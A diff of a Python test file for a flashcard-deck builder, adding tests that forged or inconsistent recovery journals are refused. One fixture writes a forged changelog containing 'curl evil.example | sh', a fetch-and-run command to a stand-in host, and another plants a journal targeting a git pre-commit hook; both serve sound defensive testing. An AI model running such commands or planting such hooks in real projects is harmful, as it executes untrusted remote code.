@@ -14,13 +14,14 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import shutil
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
-from builder.build import recover_interrupted
+from builder.build import build_deck, recover_interrupted
 from builder.cli import cli
 from builder.errors import ReleaseError
 from builder.layout import journal_path
@@ -104,11 +105,18 @@ def test_a_committed_journal_cannot_install_a_git_hook(released: Path) -> None:
 def killed_build(out: Path, *, committed: bool) -> dict[Path, bytes]:
     """The state a build killed just before (or just after) its commit leaves: temporaries and a journal.
 
+    The temporaries hold a real next release (an edited answer, built elsewhere), as a build writes them.
     Returns what each target must hold once the journal is replayed.
     """
     lock = SOURCE.with_name("small.lock")
-    new = {lock: b'{"new": "lock"}\n', out / "small-1.0.1.apkg": b"new package",
-           out / "small-CHANGELOG.md": b"# new changelog\n"}
+    old_lock = lock.read_bytes()
+    SOURCE.write_text(SOURCE.read_text().replace("answer: Answers.", "answer: Answers, edited."))
+    scratch = Path("scratch-out")
+    result = build_deck(SOURCE, scratch)
+    new = {lock: lock.read_bytes(), out / result.apkg.name: result.apkg.read_bytes(),
+           out / "small-CHANGELOG.md": (scratch / "small-CHANGELOG.md").read_bytes()}
+    shutil.rmtree(scratch)
+    lock.write_bytes(old_lock)
     old = {path: path.read_bytes() for path in new if path.exists()}
     here = SOURCE.parent
     renames = []
@@ -154,7 +162,7 @@ def test_a_journal_is_replayed_through_a_dist_that_is_a_symbolic_link(released: 
     expected = killed_build(DIST, committed=True)
     recover_interrupted(SOURCE, DIST)
     assert {path: path.read_bytes() for path in expected} == expected
-    assert (real / "small-1.0.1.apkg").read_bytes() == b"new package"
+    assert (real / "small-1.0.1.apkg").read_bytes() == expected[DIST / "small-1.0.1.apkg"]
 
 
 # --- and everything else is refused, touching nothing ---------------------------------------
@@ -207,7 +215,93 @@ def symlinked_lock(root: Path) -> None:
     write_journal([[LOCK_TEMP, "small.lock"]])
 
 
+# States no killed build leaves, each with a lock that holds what the journal commits ("committed"),
+# so that following the journal would rename a file into place: refused by the journal's invariants.
+RELEASED_APKG, RELEASED_TEMP = "../dist/small-1.0.0.apkg", "../dist/.small-1.0.0.apkg.builder-tmp-7"
+CHANGELOG, CHANGELOG_TEMP = "../dist/small-CHANGELOG.md", "../dist/.small-CHANGELOG.md.builder-tmp-7"
+
+
+def in_cardsrc(written: str) -> Path:
+    return Path("cardsrc", written)
+
+
+def forged_lock_over_the_committed_one(root: Path) -> None:
+    """The review's case: a lock that moves one note's mod a day back, over the lock the journal 'commits'."""
+    lock = json.loads(Path("cardsrc/small.lock").read_bytes())
+    lock["notes"]["quiz-one"]["mod"] -= 86400
+    in_cardsrc(LOCK_TEMP).write_text(json.dumps(lock, indent=1) + "\n")
+    write_journal([[LOCK_TEMP, "small.lock"]], sha256_of("cardsrc/small.lock"))
+
+
+def forged_lock_not_committed(root: Path) -> None:
+    in_cardsrc(LOCK_TEMP).write_text('{"format": 2}\n')
+    write_journal([[LOCK_TEMP, "small.lock"]], "1" * 64)
+
+
+def forged_package_after_the_commit(root: Path) -> None:
+    """As on a fresh clone (no .apkg in dist/): a package to put in place as the release the lock describes."""
+    Path("dist/small-1.0.0.apkg").unlink()
+    in_cardsrc(RELEASED_TEMP).write_bytes(b"PK\x03\x04 forged package")
+    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))
+
+
+def forged_changelog_after_the_commit(root: Path) -> None:
+    changelog = Path("dist/small-CHANGELOG.md").read_text()
+    in_cardsrc(CHANGELOG_TEMP).write_text(changelog + "\nRun `curl evil.example | sh` to update.\n")
+    write_journal([[LOCK_TEMP, "small.lock"], [CHANGELOG_TEMP, CHANGELOG]], sha256_of("cardsrc/small.lock"))
+
+
+def package_of_another_version(root: Path) -> None:
+    temp = "../dist/.small-9.9.9.apkg.builder-tmp-7"
+    in_cardsrc(temp).write_bytes(Path("dist/small-1.0.0.apkg").read_bytes())
+    write_journal([[LOCK_TEMP, "small.lock"], [temp, "../dist/small-9.9.9.apkg"]], sha256_of("cardsrc/small.lock"))
+
+
+def lock_temporary_without_the_rest(root: Path) -> None:
+    """The lock's temporary is renamed first, so while it is there every other one is too."""
+    in_cardsrc(LOCK_TEMP).write_bytes(Path("cardsrc/small.lock").read_bytes())
+    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))
+
+
+def renamed_out_of_order(root: Path) -> None:
+    in_cardsrc(RELEASED_TEMP).write_bytes(Path("dist/small-1.0.0.apkg").read_bytes())
+    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG], [CHANGELOG_TEMP, CHANGELOG]],
+                  sha256_of("cardsrc/small.lock"))
+
+
+def damaged_committed_lock(root: Path) -> None:
+    Path("cardsrc/small.lock").write_text("{}\n")
+    in_cardsrc(RELEASED_TEMP).write_bytes(b"PK\x03\x04 forged package")
+    write_journal([[LOCK_TEMP, "small.lock"], [RELEASED_TEMP, RELEASED_APKG]], sha256_of("cardsrc/small.lock"))
+
+
 BAD_JOURNALS = [
+    ("forged-lock-over-committed-lock", forged_lock_over_the_committed_one,
+     f"its temporary '{LOCK_TEMP}' is not what it commits ('commit_sha256'): it is not a journal builder left"),
+    ("forged-lock-not-committed", forged_lock_not_committed,
+     f"its temporary '{LOCK_TEMP}' is not what it commits ('commit_sha256'): it is not a journal builder left"),
+    ("forged-package-after-commit", forged_package_after_the_commit,
+     f"its temporary '{RELEASED_TEMP}' is not the package the lock describes: it is not a journal builder left"),
+    ("forged-changelog-after-commit", forged_changelog_after_the_commit,
+     f"its temporary '{CHANGELOG_TEMP}' is not the changelog of the lock's history: it is not a journal builder "
+     "left"),
+    ("package-of-another-version", package_of_another_version,
+     "its temporary '../dist/.small-9.9.9.apkg.builder-tmp-7' is not a file of the release the lock describes "
+     "(small-1.0.0.apkg and small-CHANGELOG.md): it is not a journal builder left"),
+    ("lock-temporary-without-the-rest", lock_temporary_without_the_rest,
+     f"its temporary '{LOCK_TEMP}' is there but '{RELEASED_TEMP}', which builder renames or deletes after it, is "
+     "not: it is not a journal builder left"),
+    ("renamed-out-of-order", renamed_out_of_order,
+     f"its temporary '{RELEASED_TEMP}' is there but '{CHANGELOG_TEMP}', which builder renames or deletes after "
+     "it, is not: it is not a journal builder left"),
+    ("damaged-committed-lock", damaged_committed_lock,
+     "the lock it commits cannot be read (the lock is damaged: format is missing: restore it from version control)"),
+    ("git-hook", plant([["../.git/hooks/.pre-commit.builder-tmp-1", "../.git/hooks/pre-commit"]]),
+     "it names '../.git/hooks/pre-commit', which a build of this deck into dist does not write"),
+    ("names-not-strings", plant_bytes(b'{"commit_sha256": "", "renames": [[1, 2]]}'),
+     "it is not a journal builder wrote ('renames' is not a list of [temporary, target] pairs)"),
+    ("commit-a-number", plant_bytes(json.dumps({"commit_sha256": 5, "renames": [[LOCK_TEMP, "small.lock"]]}).encode()),
+     "it is not a journal builder wrote ('commit_sha256' is not a sha256)"),
     ("not-json", plant_bytes(b"{not json"), "it is not a journal builder wrote (not JSON)"),
     ("a-list", plant_bytes(b"[]"),
      "it is not a journal builder wrote (it needs exactly 'commit_sha256' and 'renames')"),
@@ -267,6 +361,46 @@ def test_a_journal_builder_would_not_write_is_refused_and_nothing_changes(
         recover_interrupted(SOURCE, DIST)
     assert str(refused.value) == f"{JOURNAL}: {reason}{AFTER}"
     assert tree(released) == before
+
+
+@pytest.mark.parametrize(("make", "reason"), [case[1:] for case in BAD_JOURNALS], ids=[c[0] for c in BAD_JOURNALS])
+def test_check_diff_and_build_refuse_the_journal_alike_and_change_nothing(
+    released: Path, make: Callable[[Path], None], reason: str
+) -> None:
+    """``builder check`` judges the journal with the build's own function: it fails exactly where build refuses."""
+    make(released)
+    before = tree(released)
+    checked = CliRunner().invoke(cli, ["check"])
+    assert (checked.exit_code, checked.stdout.splitlines()[0]) == (1, f"{JOURNAL}: E173 {reason}{AFTER}")
+    assert all(" E173 " not in line for line in checked.stdout.splitlines()[1:])  # (a damaged lock is E160 too)
+    diffed = CliRunner().invoke(cli, ["diff"])
+    assert (diffed.exit_code, diffed.stdout, diffed.stderr) == (1, "", f"Error: {JOURNAL}: {reason}{AFTER}\n")
+    built = CliRunner().invoke(cli, ["build"])
+    assert (built.exit_code, built.stdout, built.stderr) == (1, "", f"Error: {JOURNAL}: {reason}{AFTER}\n")
+    assert tree(released) == before
+
+
+@pytest.mark.parametrize("committed", [True, False], ids=["committed", "not-committed"])
+def test_check_and_diff_report_a_genuine_interrupted_release_and_build_finishes_it(
+    released: Path, committed: bool
+) -> None:
+    expected = killed_build(DIST, committed=committed)
+    before = tree(released)
+    said = (("after the lock: 'builder build' finishes the release") if committed else
+            "before the lock: 'builder build' deletes what it left, and the previous release stands")
+    line = f"{JOURNAL}: a build of this deck stopped while writing its release, {said}"
+    checked = CliRunner().invoke(cli, ["check"])
+    assert (checked.exit_code, checked.stdout) == (0, f"{JOURNAL}: W216 {line.split(': ', 1)[1]}\n")
+    assert CliRunner().invoke(cli, ["check", "--strict"]).exit_code == 1
+    diffed = CliRunner().invoke(cli, ["diff"])
+    assert diffed.exit_code == 0 and diffed.stderr == f"Warning: {line}\n"
+    assert tree(released) == before  # neither check nor diff acts on it
+    built = CliRunner().invoke(cli, ["build"])
+    assert built.exit_code == 0, built.output
+    assert not journal_path(SOURCE).exists()
+    if committed:  # the release the killed build was writing, finished
+        assert {path: path.read_bytes() for path in expected} == expected
+        assert built.stdout.startswith("Unchanged dist/small-1.0.1.apkg"), built.output
 
 
 def test_a_journal_for_another_output_folder_is_refused(released: Path) -> None:
